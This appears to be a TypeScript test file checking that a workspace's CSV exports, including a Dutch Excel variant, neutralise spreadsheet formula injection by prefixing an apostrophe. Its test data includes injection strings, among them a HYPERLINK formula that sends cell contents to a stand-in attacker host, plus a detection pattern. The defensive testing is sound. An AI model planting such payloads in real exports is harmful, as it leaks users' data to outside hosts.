/**
 * A register's CSV opened in a spreadsheet runs no formula, whatever separator the spreadsheet
 * splits at (issue 12 item 8: `Overleg;=1+1` reached Dutch Excel, which splits at `;`, as a
 * formula). The block texts are written over a real socket, as any member's client could.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { DOCUMENT_FRAGMENT } from '../../shared/editor/schema';
import { buildWorkshop, type Workshop } from '../helpers/apiClient';
import { blockElement } from '../helpers/documents';
import { connectProvider, eventually, waitForSync } from '../helpers/providers';
import { readCells } from '../helpers/spreadsheet';
import { startTestServer, type TestServer } from '../helpers/startTestServer';

let server: TestServer;
let workshop: Workshop;
beforeAll(async () => {
  server = await startTestServer();
  workshop = await buildWorkshop(server.origin);
});
afterAll(async () => server.stop());

const texts = ['Overleg;=1+1', '=HYPERLINK("https://aanvaller.example/?d="&A1;"klik")', 'Huur,@SUM(1+1)', 'Budget\t-2+3', '+31 6 12345678'];

const action = (id: string, text: string) => blockElement('action', { id, status: 'open', funding: 'unknown', due: '2027-05-01' }, text);

test('no cell of the actions CSV starts a formula when read with , ; or tab as separator; every text comes back, with an apostrophe before each formula', async () => {
  const { owner, workspaceId, documentId } = workshop;
  const client = connectProvider(documentId, { cookie: owner.cookie, origin: server.origin });
  await waitForSync(client.provider);
  client.doc.getXmlFragment(DOCUMENT_FRAGMENT).insert(0, texts.map((text, i) => action(`csv-${i}`, text)));
  await eventually(async () => expect((await owner.get(`/api/workspaces/${workspaceId}/actions`)).body).toHaveLength(texts.length));
  client.provider.destroy();

  const res = await owner.get(`/api/workspaces/${workspaceId}/actions?format=csv&dialect=rfc4180`);
  expect(res.status).toBe(200);
  const csv = String(res.body);
  for (const separator of [',', ';', '\t']) {
    const cells = readCells(csv, separator).flat();
    expect(cells.filter((value) => /^(?:[\t\r]|\s*[=+\-@])/.test(value)), `separator ${JSON.stringify(separator)}`).toEqual([]);
  }
  const rows = readCells(csv, ',');
  const textColumn = rows[0]!.indexOf('text');
  const read = rows.slice(1).map((row) => row[textColumn]!);
  expect(read).toContain("Overleg;'=1+1");
  // Nothing but the apostrophes was added, nothing taken away.
  expect(read.map((t) => t.replace(/'/g, '')).sort()).toEqual([...texts].sort());
});

test('the default CSV opens in Dutch Excel: a byte order mark, ; between cells, Dutch headers and values, and still no formula under any separator', async () => {
  const { owner, workspaceId, documentId } = workshop;
  const client = connectProvider(documentId, { cookie: owner.cookie, origin: server.origin });
  await waitForSync(client.provider);
  client.doc.getXmlFragment(DOCUMENT_FRAGMENT).insert(0, [
    blockElement('action', { id: 'nl-1', status: 'in_progress', funding: 'extra', due: '2020-01-31' }, 'Ruimte huren; Łukasz Nowak belt'),
    blockElement('criterion', { id: 'nl-2', kind: 'award', weight: '12.5', category: 'social_value' }, 'Inzet van buurtbewoners'),
  ]);
  await eventually(async () => expect((await owner.get(`/api/workspaces/${workspaceId}/criteria`)).body.map((c: { blockId: string }) => c.blockId)).toContain('nl-2'));
  client.provider.destroy();

  const res = await fetch(`${server.origin}/api/workspaces/${workspaceId}/actions?format=csv`, { headers: { cookie: owner.cookie! } });
  expect(res.headers.get('content-type')).toMatch(/text\/csv; charset=utf-8/);
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const csv = new TextDecoder().decode(bytes.slice(3));
  const rows = readCells(csv, ';');
  expect(rows[0]).toEqual(['Document', 'Blok-id', 'Tekst', 'Eigenaar', 'Trekker', 'Klaar op', 'Status', 'Financiering', 'Te laat', 'Volledig ingevuld']);
  const row = rows.find((r) => r[1] === 'nl-1')!;
  expect(row.slice(2)).toEqual(['Ruimte huren; Łukasz Nowak belt', '', '', '31-01-2020', 'Bezig', 'Extra financiering nodig', 'ja', 'ja']);
  for (const separator of [',', ';', '\t']) {
    expect(readCells(csv, separator).flat().filter((value) => /^(?:[\t\r]|\s*[=+\-@])/.test(value)), `separator ${JSON.stringify(separator)}`).toEqual([]);
  }
  expect(readCells(csv, ';').slice(1).map((r) => r[2]!.replace(/'/g, ''))).toEqual(expect.arrayContaining(texts));

  const criteria = readCells(String((await owner.get(`/api/workspaces/${workspaceId}/criteria?format=csv`)).body).replace(/^\uFEFF/, ''), ';');
  expect(criteria[0]!.slice(3, 6)).toEqual(['Soort', 'Weging', 'Categorie']);
  expect(criteria.find((r) => r[1] === 'nl-2')!.slice(3, 6)).toEqual(['Gunningscriterium', '12,5', 'Maatschappelijke waarde']);
});
